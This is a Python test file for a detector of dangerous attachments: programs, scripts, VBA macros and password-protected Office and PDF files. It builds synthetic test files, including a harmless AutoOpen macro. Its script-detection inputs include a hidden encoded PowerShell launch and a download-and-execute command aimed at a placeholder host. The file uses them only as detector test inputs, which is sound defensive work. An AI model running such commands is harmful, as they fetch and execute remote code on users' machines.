"""tinbai.parsers.danger on files built here: programs, scripts, VBA projects, password-protected documents.

The VBA project is written from the MS-OVBA and MS-CFB descriptions (compound
file, compressed dir and module streams), so olevba reads a genuine project
with an AutoOpen macro that does nothing but show a message box.
"""

from __future__ import annotations

import functools
import io
import itertools
import os
import struct
import time
import warnings
import zipfile
from pathlib import Path

import msoffcrypto.format.ooxml
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.hostile_files import blank_pdf
from tinbai.parsers.danger import executable_kind, is_encrypted_office, is_encrypted_pdf, macro_info
from tinbai.parsers.danger.executables import LNK_HEADER

# ------------------------------------------------------------------ compound file (MS-CFB v3) writer

FREE, END, FATSECT = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
SECTOR, MINI, CUTOFF = 512, 64, 4096


def _dir_entry(
    name: str, kind: int, child: int, right: int, start: int, size: int, clsid: bytes = bytes(16)
) -> bytes:
    encoded = name.encode("utf-16-le") + b"\x00\x00" if name else b""
    return (
        encoded.ljust(64, b"\x00")
        + struct.pack("<HBB", len(encoded), kind, 1)  # name length, type, colour black
        + struct.pack("<III", FREE, right, child)  # left sibling, right sibling, child
        + clsid
        + bytes(4 + 16)  # state bits, creation and modification times
        + struct.pack("<IQ", start, size)
    )


def _chain(fat: list[int], start: int, count: int) -> None:
    for i in range(count):
        fat[start + i] = start + i + 1 if i < count - 1 else END


def make_cfb(streams: dict[str, bytes], root_clsid: bytes = bytes(16)) -> bytes:
    """A compound file holding `streams` ("VBA/dir" = stream dir in storage VBA)."""
    nodes: dict[str, list[str]] = {"": []}  # storage path -> child paths
    for path in streams:
        parts = path.split("/")
        for i in range(len(parts)):
            parent, here = "/".join(parts[:i]), "/".join(parts[: i + 1])
            if here not in nodes.get(parent, []):
                nodes.setdefault(parent, []).append(here)
            if i < len(parts) - 1:
                nodes.setdefault(here, [])
    order = ["", *sorted({p for kids in nodes.values() for p in kids})]
    index = {p: i for i, p in enumerate(order)}

    mini = bytearray()
    minifat: list[int] = []
    big: list[tuple[str, bytes]] = []
    placement: dict[str, tuple[int, bool]] = {}
    for path, data in streams.items():
        if len(data) < CUTOFF:
            first = len(mini) // MINI
            count = max(1, -(-len(data) // MINI))
            mini += data.ljust(count * MINI, b"\x00")
            minifat += [first + i + 1 if i < count - 1 else END for i in range(count)]
            placement[path] = (first, True)
        else:
            big.append((path, data))

    dir_bytes_len = -(-len(order) * 128 // SECTOR) * SECTOR
    n_dir = dir_bytes_len // SECTOR
    n_minifat = -(-len(minifat) * 4 // SECTOR) if minifat else 0
    n_ministream = -(-len(mini) // SECTOR)
    n_big = [-(-len(d) // SECTOR) for _, d in big]
    n_data = n_dir + n_minifat + n_ministream + sum(n_big)
    n_fat = 1
    while (n_data + n_fat) > n_fat * (SECTOR // 4):
        n_fat += 1

    fat = [FREE] * (n_fat * SECTOR // 4)
    pos = 0
    dir_start = pos
    _chain(fat, pos, n_dir)
    pos += n_dir
    minifat_start = pos if n_minifat else END
    _chain(fat, pos, n_minifat)
    pos += n_minifat
    ministream_start = pos if n_ministream else END
    _chain(fat, pos, n_ministream)
    pos += n_ministream
    for (path, _data), count in zip(big, n_big, strict=True):
        placement[path] = (pos, False)
        _chain(fat, pos, count)
        pos += count
    fat_start = pos
    for i in range(n_fat):
        fat[fat_start + i] = FATSECT

    def cfb_order(path: str) -> tuple[int, str]:  # siblings sort by name length, then upper case
        name = path.rsplit("/", 1)[-1]
        return len(name), name.upper()

    children = {storage: sorted(kids, key=cfb_order) for storage, kids in nodes.items()}
    right_of = {a: b for kids in children.values() for a, b in itertools.pairwise(kids)}
    entries = []
    for path in order:
        kids = children.get(path, [])
        child = index[kids[0]] if kids else FREE
        right = index[right_of[path]] if path in right_of else FREE
        if path == "":
            entries.append(_dir_entry("Root Entry", 5, child, FREE, ministream_start, len(mini), root_clsid))
        elif path in streams:
            entries.append(
                _dir_entry(path.rsplit("/", 1)[-1], 2, FREE, right, placement[path][0], len(streams[path]))
            )
        else:
            entries.append(_dir_entry(path.rsplit("/", 1)[-1], 1, child, right, 0, 0))
    directory = b"".join(entries)
    while len(directory) < dir_bytes_len:
        directory += _dir_entry("", 0, FREE, FREE, 0, 0)

    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + bytes(16)
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + bytes(6)
        + struct.pack("<IIIIIIIII", 0, n_fat, dir_start, 0, CUTOFF, minifat_start, n_minifat, END, 0)
    )
    difat = [fat_start + i for i in range(n_fat)] + [FREE] * (109 - n_fat)
    header += struct.pack("<109I", *difat)
    body = directory
    body += struct.pack(f"<{len(minifat)}I", *minifat).ljust(n_minifat * SECTOR, b"\xff")
    body += bytes(mini).ljust(n_ministream * SECTOR, b"\x00")
    for (_, data), count in zip(big, n_big, strict=True):
        body += data.ljust(count * SECTOR, b"\x00")
    body += struct.pack(f"<{len(fat)}I", *fat)
    return header + body


# ------------------------------------------------------------------ VBA project (MS-OVBA)


def ovba_compress(data: bytes) -> bytes:
    """MS-OVBA 2.4.1 compressed container; every token a literal (valid, just not small)."""
    out = bytearray(b"\x01")
    per_chunk = 455 * 8  # 455 groups of flag byte + 8 literals fit the 4096-byte chunk body
    for start in range(0, len(data), per_chunk):
        piece = data[start : start + per_chunk]
        body = bytearray()
        for i in range(0, len(piece), 8):
            body.append(0)  # flag byte: the next 8 tokens are literals
            body += piece[i : i + 8]
        out += struct.pack("<H", (len(body) + 2 - 3) | 0b011 << 12 | 0x8000) + body
    return bytes(out)


def _rec(rec_id: int, data: bytes) -> bytes:
    return struct.pack("<HI", rec_id, len(data)) + data


def vba_dir_stream(modules: list[str]) -> bytes:
    out = (
        _rec(0x0001, struct.pack("<I", 1))  # PROJECTSYSKIND: 32-bit Windows
        + _rec(0x0002, struct.pack("<I", 0x409))  # PROJECTLCID
        + _rec(0x0014, struct.pack("<I", 0x409))  # PROJECTLCIDINVOKE
        + _rec(0x0003, struct.pack("<H", 1252))  # PROJECTCODEPAGE
        + _rec(0x0004, b"VBAProject")  # PROJECTNAME
        + _rec(0x0005, b"")
        + _rec(0x0040, b"")  # PROJECTDOCSTRING (+ Unicode)
        + _rec(0x0006, b"")
        + _rec(0x003D, b"")  # PROJECTHELPFILEPATH (twice)
        + _rec(0x0007, struct.pack("<I", 0))  # PROJECTHELPCONTEXT
        + _rec(0x0008, struct.pack("<I", 0))  # PROJECTLIBFLAGS
        + struct.pack("<HIIH", 0x0009, 4, 1, 0)  # PROJECTVERSION: reserved 4, major, minor
        + _rec(0x000C, b"")
        + _rec(0x003C, b"")  # PROJECTCONSTANTS (+ Unicode)
        + struct.pack("<HIH", 0x000F, 2, len(modules))  # PROJECTMODULES (no references before it)
        + struct.pack("<HIH", 0x0013, 2, 0xFFFF)  # PROJECTCOOKIE
    )
    for name in modules:
        raw, wide = name.encode("ascii"), name.encode("utf-16-le")
        out += (
            _rec(0x0019, raw) + _rec(0x0047, wide)  # MODULENAME, MODULENAMEUNICODE
            + _rec(0x001A, raw) + _rec(0x0032, wide)  # MODULESTREAMNAME (+ Unicode)
            + _rec(0x001C, b"") + _rec(0x0048, b"")  # MODULEDOCSTRING (+ Unicode)
            + _rec(0x0031, struct.pack("<I", 0))  # MODULEOFFSET: source right at the start
            + _rec(0x001E, struct.pack("<I", 0))  # MODULEHELPCONTEXT
            + _rec(0x002C, struct.pack("<H", 0xFFFF))  # MODULECOOKIE
            + struct.pack("<HI", 0x0021, 0)  # MODULETYPE: procedural
            + struct.pack("<HI", 0x002B, 0)  # MODULE terminator
        )  # fmt: skip
    return out + struct.pack("<HI", 0x0010, 0)  # dir terminator


MACRO_SOURCE = 'Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\n    MsgBox "Xin chao"\r\nEnd Sub\r\n'


def vba_streams(prefix: str = "") -> dict[str, bytes]:
    project = (
        b'ID="{00000000-0000-0000-0000-000000000000}"\r\nModule=Module1\r\nName="VBAProject"\r\n'
        b'HelpContextID="0"\r\nVersionCompatible32="393222000"\r\n\r\n[Host Extender Info]\r\n'
        b"&H00000001={3832D640-CF90-11CF-8E43-00A0C911005A};VBE;&H00000000\r\n"
    )
    return {
        f"{prefix}PROJECT": project,
        f"{prefix}VBA/_VBA_PROJECT": b"\xcc\x61\xff\xff\x00\x00\x00",  # version-independent: recompile
        f"{prefix}VBA/dir": ovba_compress(vba_dir_stream(["Module1"])),
        f"{prefix}VBA/Module1": ovba_compress(MACRO_SOURCE.encode()),
    }


CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
    "{extra}</Types>"
)


def make_ooxml(parts: dict[str, bytes], vba_part: str | None = None) -> bytes:
    extra = ""
    if vba_part:
        extra = f'<Override PartName="/{vba_part}" ContentType="application/vnd.ms-office.vbaProject"/>'
    files = {
        "[Content_Types].xml": CONTENT_TYPES.format(extra=extra).encode(),
        "word/document.xml": b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        b"<w:body><w:p><w:r><w:t>Tin PBGDPL</w:t></w:r></w:p></w:body></w:document>",
        **parts,
    }
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in files.items():
            zf.writestr(name, data)
    return buf.getvalue()


def synthetic_pe() -> bytes:
    """A DOS stub whose e_lfanew points at a PE header for a 64-bit image: no code at all."""
    data = bytearray(1024)
    data[0:2] = b"MZ"
    struct.pack_into("<I", data, 0x3C, 0x80)
    data[0x80:0x84] = b"PE\x00\x00"
    struct.pack_into("<HH", data, 0x84, 0x8664, 0)  # machine AMD64, no sections
    return bytes(data)


# ------------------------------------------------------------------ executable_kind


def test_pe_named_pdf_is_a_program():
    assert executable_kind(synthetic_pe(), "bao-cao.pdf") == "pe"
    assert executable_kind(synthetic_pe(), None) == "pe"


def test_mz_text_without_pe_header_is_not_a_program():
    assert executable_kind(b"MZ Trading company report " + b"x" * 200, "report.txt") is None


@pytest.mark.skipif(not Path("/bin/true").exists(), reason="no /bin/true")
def test_elf_binary():
    assert executable_kind(Path("/bin/true").read_bytes(), "anh.jpg") == "elf"


def test_macho_fat_and_java_class():
    assert executable_kind(b"\xcf\xfa\xed\xfe" + bytes(60), "x") == "macho"
    assert executable_kind(b"\xca\xfe\xba\xbe" + struct.pack(">I", 2) + bytes(40), "x") == "macho"
    assert executable_kind(b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(40), "x") == "java-class"


def test_windows_shortcut_by_content():
    assert executable_kind(LNK_HEADER + bytes(60), "tai-lieu.pdf") == "lnk"


@pytest.mark.parametrize(
    ("first_line", "kind"),
    [
        (b"#!/bin/sh", "script:sh"),
        (b"#!/usr/bin/env python3", "script:python"),
        (b"#! /usr/bin/perl -w", "script:perl"),
        (b"#!/usr/bin/env -S node --harmony", "script:js"),
        (b"#!important: not a path", None),
    ],
)
def test_shebang(first_line: bytes, kind: str | None):
    assert executable_kind(first_line + b"\necho hello\n", "ghi-chu.txt") == kind


def test_java_and_android_packages_by_content():
    jar = io.BytesIO()
    with zipfile.ZipFile(jar, "w") as zf:
        zf.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nMain-Class: A\n")
        zf.writestr("A.class", b"\xca\xfe\xba\xbe\x00\x00\x00\x34")
    assert executable_kind(jar.getvalue(), "tai-lieu.zip") == "jar"
    apk = io.BytesIO()
    with zipfile.ZipFile(apk, "w") as zf:
        zf.writestr("AndroidManifest.xml", b"\x03\x00\x08\x00")
        zf.writestr("classes.dex", b"dex\n035\x00" + bytes(100))
    assert executable_kind(apk.getvalue(), "app.zip") == "apk"
    assert executable_kind(make_ooxml({}), "tin.docx") is None


def test_msi_by_root_clsid():
    # {000C1084-0000-0000-C000-000000000046}: first three fields little-endian
    clsid = struct.pack("<IHH", 0x000C1084, 0, 0) + bytes.fromhex("C000000000000046")
    assert executable_kind(make_cfb({"Property": b"x" * 10}, root_clsid=clsid), "setup.doc") == "msi"
    assert executable_kind(make_cfb({"WordDocument": bytes(5000)}), "tin.doc") is None


@pytest.mark.parametrize(
    ("name", "kind"),
    [
        ("huong-dan-mo-file.js", "script:js"),
        ("HUONG DAN.JS", "script:js"),
        ("tai lieu.vbs", "script:vbs"),
        ("cai-dat.ps1", "script:ps1"),
        ("chay.bat", "script:bat"),
        ("a.cmd", "script:bat"),
        ("form.hta", "script:hta"),
        ("job.wsf", "script:wsf"),
        ("shell.php", "script:php"),
        ("setup.exe", "name:exe"),
        ("photo.jpg.scr", "name:scr"),
        ("bao-cao.pdf.exe. . ", "name:exe"),  # Windows drops trailing dots and spaces
        ("C:\\Users\\a\\Desktop\\tai-lieu.lnk", "name:lnk"),
        ("thu-vien.dll", "name:dll"),
        ("goi.msi", "name:msi"),
        ("app.apk", "name:apk"),
        ("bao-cao.doc", None),
        ("anh.jpg", None),
        ("README", None),
    ],
)
def test_kind_by_name_for_harmless_content(name: str, kind: str | None):
    assert executable_kind(b"\xff\xd8\xff\xe0 just a picture", name) == kind


def test_docx_named_doc_is_not_executable():
    assert executable_kind(make_ooxml({}), "bao-cao.doc") is None


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ('var sh = new ActiveXObject("WScript.Shell");\nsh.Run("cmd /c dir");', "script:js"),
        ('Set o = CreateObject("WScript.Shell")\r\no.Run "calc"', "script:vbs"),
        ("On Error Resume Next\r\nDim x\r\n", "script:vbs"),
        ("cmd /c powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", "script:ps1"),
        ("IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a')", "script:ps1"),
        ("\r\nREM cai dat\r\n@echo off\r\ncopy a b\r\n", "script:bat"),
        ('<html><head><HTA:APPLICATION ID="x"/></head></html>', "script:hta"),
        ("Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\X]\r\n", "script:reg"),
        ("PowerShell là công cụ quản trị của Windows; bài viết hướng dẫn cán bộ cách dùng.", None),
        ("Sáng 28/4, Cục Thi hành án dân sự tỉnh tổ chức hội nghị.", None),
    ],
)
def test_script_markers_in_text(text: str, kind: str | None):
    assert executable_kind(text.encode(), "ghi-chu.txt") == kind


def test_script_markers_in_utf16_text():
    text = "\ufeffpowershell.exe -ExecutionPolicy Bypass -File x.ps1".encode("utf-16-le")
    assert executable_kind(text, "note.txt") == "script:ps1"


def test_documents_quoting_code_are_not_scripts():
    pdf = b"%PDF-1.4\n1 0 obj << /JS (new ActiveXObject\\(1\\)) >> endobj\n%%EOF"
    assert executable_kind(pdf, "tai-lieu.pdf") is None
    rtf = b'{\\rtf1\\ansi Set o = CreateObject("WScript.Shell")}'
    assert executable_kind(rtf, "tai-lieu.rtf") is None


def test_fast_on_large_benign_files():
    blobs = [os.urandom(20 * 1024 * 1024), ("Nội dung bài viết dài. " * 900_000).encode()]
    for blob in blobs:
        started = time.perf_counter()
        assert executable_kind(blob, "tai-lieu.bin") is None
        assert macro_info(blob) is None
        assert not is_encrypted_office(blob)
        assert not is_encrypted_pdf(blob)
        assert time.perf_counter() - started < 1.0


# ------------------------------------------------------------------ macro_info


def test_vba_project_is_genuine():
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)  # olevba's pyparsing calls
        from oletools.olevba import VBA_Parser

    parser = VBA_Parser("vbaProject.bin", data=make_cfb(vba_streams()))
    macros = list(parser.extract_macros())
    parser.close()
    assert [(m[2], "AutoOpen" in m[3]) for m in macros] == [("Module1.bas", True)]


def test_docm_with_vba_macro():
    docm = make_ooxml({"word/vbaProject.bin": make_cfb(vba_streams())}, vba_part="word/vbaProject.bin")
    found = macro_info(docm)
    assert found is not None and found[0] == "AutoOpen" and "Module1.bas" in found


def test_word97_doc_with_macros_storage():
    doc = make_cfb({"WordDocument": bytes(5000), **vba_streams("Macros/")})
    found = macro_info(doc)
    assert found is not None and "AutoOpen" in found


def test_vba_part_that_olevba_cannot_read_is_still_a_macro():
    broken = make_ooxml({"word/vbaProject.bin": b"not an OLE file"}, vba_part="word/vbaProject.bin")
    assert macro_info(broken) == ["vbaProject.bin"]
    renamed = make_ooxml({"word/extra.dat": b"garbage"}, vba_part="word/extra.dat")
    assert macro_info(renamed) == ["extra.dat"]


def test_excel4_macro_sheets_and_opendocument_basic():
    xlsm = make_ooxml({"xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"})
    assert macro_info(xlsm) == ["XLM:sheet1"]
    odt = io.BytesIO()
    with zipfile.ZipFile(odt, "w") as zf:
        zf.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        zf.writestr("content.xml", "<office:document-content/>")
        zf.writestr("Basic/script-lc.xml", "<library:libraries/>")
        zf.writestr("Basic/Standard/script-lb.xml", "<library:library/>")
        zf.writestr(
            "Basic/Standard/Module1.xml", '<script:module>Sub Main\nShell("x")\nEnd Sub</script:module>'
        )
    assert macro_info(odt.getvalue()) == ["Basic:Standard.Module1"]


def test_no_macros_and_olevba_not_run_on_plain_documents(monkeypatch: pytest.MonkeyPatch):
    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError("olevba should not run on a file that cannot hold VBA")

    import oletools.olevba

    monkeypatch.setattr(oletools.olevba, "VBA_Parser", refuse)
    assert macro_info(make_ooxml({"word/media/image1.png": b"\x89PNG" + bytes(100)})) is None
    assert macro_info(make_ooxml({"xl/printerSettings/printerSettings1.bin": bytes(200)})) is None
    assert macro_info(b"%PDF-1.7\n") is None
    assert macro_info(b"\xff\xd8\xff\xe0" + bytes(1000)) is None


def test_ole_without_vba_has_no_macros():
    assert macro_info(make_cfb({"WordDocument": bytes(5000)})) is None


# ------------------------------------------------------------------ passwords


def test_encrypted_docx():
    plain = make_ooxml({})
    encrypted = io.BytesIO()
    msoffcrypto.format.ooxml.OOXMLFile(io.BytesIO(plain)).encrypt("secret", encrypted)
    assert is_encrypted_office(encrypted.getvalue())
    assert not is_encrypted_office(plain)


def _fib(flags: int, key: int) -> bytes:
    """FibBase of a Word 97 document: wIdent, nFib, …, flags (fEncrypted bit 8, fObfuscation bit 15), lKey."""
    base = struct.pack("<HHHHHHHI", 0xA5EC, 0x00C1, 0, 0x0409, 0, flags, 0x00BF, key)
    return base.ljust(5000, b"\x00")


def test_word97_encryption_flag():
    assert is_encrypted_office(
        make_cfb({"WordDocument": _fib(0x0100 | 0x8000, 0x1234), "1Table": bytes(100)})
    )
    assert not is_encrypted_office(make_cfb({"WordDocument": _fib(0, 0), "1Table": bytes(100)}))


def _workbook(verifier: int) -> bytes:
    bof = struct.pack("<HH", 0x0809, 16) + struct.pack("<HHHHII", 0x0600, 0x0005, 0, 0, 0, 0)
    filepass = struct.pack("<HHHHH", 0x002F, 6, 0x0000, 0x1234, verifier)  # XOR obfuscation
    eof = struct.pack("<HH", 0x000A, 0)
    return (bof + filepass + eof).ljust(5000, b"\x00")


def test_xls_with_excels_default_password_is_not_encrypted():
    # 0x9A0A is the verifier of "VelvetSweatshop", which Excel tries itself without asking
    assert not is_encrypted_office(make_cfb({"Workbook": _workbook(0x9A0A)}))
    assert is_encrypted_office(make_cfb({"Workbook": _workbook(0x1111)}))


def test_encrypted_opendocument():
    def odt(manifest_extra: str) -> bytes:
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as zf:
            zf.writestr("mimetype", "application/vnd.oasis.opendocument.text")
            zf.writestr(
                "META-INF/manifest.xml",
                '<manifest:manifest><manifest:file-entry manifest:full-path="content.xml">'
                f"{manifest_extra}</manifest:file-entry></manifest:manifest>",
            )
        return buf.getvalue()

    assert is_encrypted_office(odt('<manifest:encryption-data manifest:checksum-type="SHA1/1K"/>'))
    assert not is_encrypted_office(odt(""))


def test_pdf_passwords():
    assert is_encrypted_pdf(blank_pdf(user_password="secret", owner_password="owner"))
    # restrictions only (empty user password): it opens, so it is not "encrypted" for the sender
    assert not is_encrypted_pdf(blank_pdf(user_password="", owner_password="owner"))
    assert not is_encrypted_pdf(blank_pdf())
    assert not is_encrypted_pdf(b"not a pdf")


def test_damaged_pdf_with_encrypt_entry():
    damaged = b"%PDF-1.4\n%garbage\ntrailer\n<< /Root 1 0 R /Encrypt 5 0 R >>\n%%EOF"
    assert is_encrypted_pdf(damaged)


def test_encrypted_checks_leave_non_office_files_alone():
    assert not is_encrypted_office(b"%PDF-1.4")
    assert not is_encrypted_office(make_cfb({"Property": b"x"}))  # OLE that is not Office


# ------------------------------------------------------------------ damaged input


@functools.cache
def _fuzz_bases() -> list[bytes]:
    encrypted = io.BytesIO()
    msoffcrypto.format.ooxml.OOXMLFile(io.BytesIO(make_ooxml({}))).encrypt("secret", encrypted)
    return [
        make_ooxml({"word/vbaProject.bin": make_cfb(vba_streams())}, vba_part="word/vbaProject.bin"),
        make_cfb(
            {"WordDocument": _fib(0x0100 | 0x8000, 0x1234), "1Table": bytes(100), **vba_streams("Macros/")}
        ),
        make_cfb({"Workbook": _workbook(0x9A0A)}),
        encrypted.getvalue(),
        blank_pdf(user_password="secret", owner_password="owner"),
        synthetic_pe(),
    ]


@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    which=st.integers(0, 5),
    flips=st.lists(st.tuples(st.integers(8, 10**6), st.integers(0, 255)), min_size=1, max_size=8),
    keep=st.floats(0.1, 1.0),
)
def test_damaged_files_never_raise(which: int, flips: list[tuple[int, int]], keep: float):
    data = bytearray(_fuzz_bases()[which])
    for pos, value in flips:
        data[pos % len(data)] = value
    data = bytes(data[: max(16, int(len(data) * keep))])
    kind = executable_kind(data, "tai-lieu.doc")
    assert kind is None or isinstance(kind, str)
    found = macro_info(data)
    assert found is None or (found and all(isinstance(n, str) for n in found))
    assert isinstance(is_encrypted_office(data), bool)
    assert isinstance(is_encrypted_pdf(data), bool)
